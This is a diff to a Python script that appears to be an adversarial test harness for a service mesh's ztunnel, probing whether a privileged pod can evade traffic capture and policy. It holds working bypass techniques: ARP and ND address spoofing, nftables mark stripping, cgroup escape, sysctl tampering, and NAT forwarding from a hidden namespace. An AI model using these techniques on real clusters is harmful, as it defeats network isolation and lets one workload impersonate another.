@@ -1,4 +1,5 @@
-"""What a pod with NET_RAW and NET_ADMIN may try to get TCP out past ztunnel, one way a name.
+"""What a pod with NET_RAW and NET_ADMIN may try to get TCP out past ztunnel, or into a pod past its policy, one
+way a name.
 
     hostile.py NAME TARGET4 TARGET6 PORT GATEWAY_MAC
 
@@ -14,6 +15,7 @@ import sys
 SOURCE_PORT = 4444
 ETH_IP, ETH_IP6, ETH_VLAN = 0x0800, 0x86DD, 0x8100
 FASTOPEN_CONNECT, FASTOPEN_NO_COOKIE = 30, 34  # <linux/tcp.h>
+MSG_FASTOPEN = 0x20000000
 MPTCP = 262
 
 
@@ -37,6 +39,12 @@ class Target:
 
     def ip(self, family):
         return self.ip4 if family == socket.AF_INET else self.ip6
+
+    def speaking_as(self, ip4, ip6):
+        """The same destination for somebody who claims these addresses."""
+        other = Target(self.ip4, self.ip6, self.port, self.gateway.hex())
+        other.own = lambda family: ip4 if family == socket.AF_INET else ip6
+        return other
 
 
 def syn(target, family, flags=0x02):
@@ -76,8 +84,14 @@ def run(*argv):
 
 
 def forget_rules():
+    """Capture's, if the pod is captured."""
     for family in ("-4", "-6"):
-        run("ip", family, "rule", "del", "pref", "1")
+        subprocess.run(["ip", family, "rule", "del", "pref", "1"], check=False, stderr=subprocess.DEVNULL)
+
+
+def write(path, text):
+    with open(path, "w") as file:
+        file.write(text)
 
 
 def connect(target, family, protocol=0, before=None, after=None):
@@ -213,6 +227,100 @@ def mptcp(target):
     both(lambda f: connect(target, f, protocol=MPTCP))
 
 
+def tcp_fast_open(target):
+    forget_rules()
+
+    def attempt(family):
+        with socket.socket(family, socket.SOCK_STREAM) as app:
+            app.settimeout(1)
+            app.setsockopt(socket.IPPROTO_TCP, FASTOPEN_NO_COOKIE, 1)
+            try:
+                app.sendto(b"data in the SYN", MSG_FASTOPEN, (target.ip(family), target.port))
+                app.recv(1)
+            except OSError as error:
+                print(f"{family.name}: {error}")
+    both(attempt)
+
+
+def v4_mapped(target):
+    forget_rules()
+    mapped = Target("::ffff:" + target.ip4, "::ffff:" + target.ip4, target.port, target.gateway.hex())
+    connect(mapped, socket.AF_INET6)
+
+
+def own_netfilter_rules(target):
+    """The mark comes off behind the connect hook, and the kernel routes anew."""
+    run("nft", "add table inet hostile")
+    run("nft", "add chain inet hostile out { type route hook output priority mangle; }")
+    run("nft", "add rule inet hostile out meta l4proto tcp meta mark set 0")
+    both(lambda f: connect(target, f))
+
+
+def another_cgroup(target):
+    """Where no hook of the node's pods is. A container's cgroup file system is read-only; this one's is not."""
+    with open("/proc/self/mounts") as mounts:
+        root = next(line.split()[1] for line in mounts if line.split()[2] == "cgroup2")
+    write(f"{root}/cgroup.procs", "0")
+    both(lambda f: connect(target, f))
+
+
+def sysctls_flipped(target):
+    for key in ("ipv4/tcp_fwmark_accept", "ipv4/tcp_migrate_req", "ipv4/fwmark_reflect", "ipv6/fwmark_reflect"):
+        write(f"/proc/sys/net/{key}", "0")
+    both(lambda f: connect(target, f))
+
+
+def neighbours_address(target):
+    """Claims the addresses of another pod, by ARP and ND, and speaks as that."""
+    ip_4, ip_6 = "10.66.0.77", "fd66::77"
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
+        out.bind(("eth0", 0))
+        mac = out.getsockname()[4]
+        claim = socket.inet_aton(ip_4)
+        out.send(b"\xff" * 6 + mac + struct.pack("!HHHBBH", 0x0806, 1, ETH_IP, 6, 4, 2) + mac + claim +
+                 b"\xff" * 6 + claim)
+        claim, everybody = (socket.inet_pton(socket.AF_INET6, a) for a in (ip_6, "ff02::1"))
+        advertisement = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + claim + b"\x02\x01" + mac
+        pseudo = claim + everybody + struct.pack("!II", len(advertisement), 58)
+        advertisement = (advertisement[:2] + struct.pack("!H", checksum(pseudo + advertisement)) +
+                         advertisement[4:])
+        header = struct.pack("!IHBB16s16s", 6 << 28, len(advertisement), 58, 255, claim, everybody)
+        out.send(b"\x33\x33\0\0\0\x01" + mac + struct.pack("!H", ETH_IP6) + header + advertisement)
+    packet_socket(target.speaking_as(ip_4, ip_6))
+
+
+def link_local(target):
+    """To the node, by the scope that no route is needed for."""
+    def of(mac):
+        host = bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]
+        return socket.inet_ntop(socket.AF_INET6, b"\xfe\x80" + b"\0" * 6 + host)
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as probe:
+        probe.bind(("eth0", 0))
+        own = probe.getsockname()[4]
+    node = Target(target.ip4, of(target.gateway), target.port, target.gateway.hex())
+    wire(target, ip6(node.speaking_as("0.0.0.0", of(own)),
+                     syn(node.speaking_as("0.0.0.0", of(own)), socket.AF_INET6)))
+
+
+def forwarded_from_a_namespace_inside(target):
+    """The pod becomes a router for a namespace that nobody has enrolled, and hides it behind its address."""
+    write("/proc/sys/net/ipv4/ip_forward", "1")
+    write("/proc/sys/net/ipv6/conf/all/forwarding", "1")
+    run("nft", "add table inet hostile")
+    run("nft", "add chain inet hostile out { type nat hook postrouting priority srcnat; }")
+    run("nft", "add rule inet hostile out oifname eth0 masquerade")
+    with Inside() as inside:
+        run("ip", "link", "add", "in0", "type", "veth", "peer", "name", "in1", "netns", str(inside.pid))
+        run("ip", "link", "set", "in0", "up")
+        inside.run("ip", "link", "set", "in1", "up")
+        for net, own in (("192.168.9", ".1/30"), ("fd09:", ":1/64")):
+            run("ip", "addr", "add", net + own, "dev", "in0", *(["nodad"] if ":" in net else []))
+        for net, own, gateway in (("192.168.9", ".2/30", ".1"), ("fd09:", ":2/64", ":1")):
+            inside.run("ip", "addr", "add", net + own, "dev", "in1", *(["nodad"] if ":" in net else []))
+            inside.run("ip", "-6" if ":" in net else "-4", "route", "add", "default", "via", net + gateway)
+        inside.call(target)
+
+
 def added_address(target):
     run("ip", "addr", "add", "10.66.0.99/32", "dev", "eth0")
     run("ip", "addr", "add", "fd66::99/128", "dev", "eth0", "nodad")
@@ -244,24 +352,39 @@ def interface_moved_away(target):
 def nested(target, device):
     """A namespace that nobody has enrolled, behind the pod's own veth."""
     own = {f: target.own(f) for f in (socket.AF_INET, socket.AF_INET6)}
-    holder = subprocess.Popen(["unshare", "-n", "sh", "-c", "echo ready; exec sleep 30"],
-                              stdout=subprocess.PIPE)
-    holder.stdout.readline()
-    try:
-        inside = ["nsenter", "-t", str(holder.pid), "-n"]
-        run("ip", "link", "set", device, "netns", str(holder.pid))
-        run(*inside, "ip", "link", "set", device, "up")
-        run(*inside, "ip", "addr", "add", own[socket.AF_INET] + "/32", "dev", device)
-        run(*inside, "ip", "addr", "add", own[socket.AF_INET6] + "/128", "dev", device, "nodad")
+    with Inside() as inside:
+        run("ip", "link", "set", device, "netns", str(inside.pid))
+        inside.run("ip", "link", "set", device, "up")
+        inside.run("ip", "addr", "add", own[socket.AF_INET] + "/32", "dev", device)
+        inside.run("ip", "addr", "add", own[socket.AF_INET6] + "/128", "dev", device, "nodad")
         for family, gateway in (("-4", "169.254.1.1"), ("-6", "fd66:ffff::1")):
-            run(*inside, "ip", family, "route", "add", gateway, "dev", device)
-            run(*inside, "ip", family, "route", "add", "default", "via", gateway, "dev", device)
+            inside.run("ip", family, "route", "add", gateway, "dev", device)
+            inside.run("ip", family, "route", "add", "default", "via", gateway, "dev", device)
+        inside.call(target)
+
+
+class Inside:
+    """A network namespace that the pod makes for itself."""
+
+    def __enter__(self):
+        self.holder = subprocess.Popen(["unshare", "-n", "sh", "-c", "echo ready; exec sleep 30"],
+                                       stdout=subprocess.PIPE)
+        self.holder.stdout.readline()
+        self.pid = self.holder.pid
+        self.enter = ["nsenter", "-t", str(self.pid), "-n"]
+        return self
+
+    def __exit__(self, *_):
+        self.holder.kill()
+        self.holder.wait()
+
+    def run(self, *argv):
+        run(*self.enter, *argv)
+
+    def call(self, target):
         for ip in (target.ip4, target.ip6):
-            subprocess.run([*inside, "curl", "-s", "-g", "--max-time", "2",
+            subprocess.run([*self.enter, "curl", "-s", "-g", "--max-time", "2",
                             f"http://{'[%s]' % ip if ':' in ip else ip}:{target.port}/"], check=False)
-    finally:
-        holder.kill()
-        holder.wait()
 
 
 def main():
